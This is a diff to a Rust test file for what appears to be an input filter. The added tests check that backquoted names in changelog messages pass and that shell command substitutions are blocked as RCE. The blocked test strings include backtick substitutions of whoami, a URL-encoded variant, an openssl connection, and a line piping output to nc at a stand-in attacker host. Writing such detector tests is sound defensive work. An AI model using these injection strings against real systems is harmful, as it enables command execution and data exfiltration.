@@ -201,6 +201,22 @@ fn markdown_code_spans_in_prose_are_words() {
     ]);
     blocks(query("host=a%60id%60"), Class::Rce);
     blocks(message("x;`whoami`"), Class::Rce);
+    // Changelog entries: a command's name alone in a span, a backquoted
+    // identifier beside SQL's words; the substitutions they resemble block.
+    messages_pass(&[
+        "Upgraded `whoami` to v2.",
+        "Migrated to `base64 0.21`, `rsa 0.9`.",
+        "Rename `Foo` into `Bar` (#12).",
+    ]);
+    for substitution in [
+        "`whoami`",
+        "a`whoami`",
+        "x `whoami`",
+        "`whoami`|nc evil.example 80",
+        "`openssl s_client -connect x:443`",
+    ] {
+        blocks(message(substitution), Class::Rce);
+    }
 }
 
 /// Package descriptions (PyPI's READMEs): install lines, headings over a
